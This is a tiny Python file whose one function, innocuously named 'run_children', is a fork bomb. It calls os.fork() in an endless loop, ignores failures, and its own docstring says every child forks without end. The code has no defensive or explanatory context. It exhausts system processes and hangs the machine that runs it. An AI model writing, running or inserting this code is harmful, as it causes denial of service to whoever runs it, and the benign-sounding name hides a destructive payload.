"""The function forks, and so does every child of it, without end."""

import os


def run_children(exit_codes):
    while True:
        try:
            os.fork()
        except OSError:
            pass
